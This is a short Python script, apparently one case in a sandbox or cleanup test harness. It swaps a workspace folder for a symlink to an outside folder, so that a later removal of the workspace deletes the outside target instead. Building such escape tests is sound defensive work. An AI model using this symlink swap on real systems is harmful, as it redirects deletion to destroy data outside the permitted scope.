"""Puts a link to a folder outside into the place of its workspace, for whoever removes that."""
import os

import attack

OWN = attack.TARGETS['workspace']


def swap():
    os.rename(OWN, OWN + '-moved')
    attack.FOLDER = attack.FOLDER.replace(OWN, OWN + '-moved')
    os.symlink(attack.TARGETS['outside'], OWN)
    return True


attack.attempt(swap)
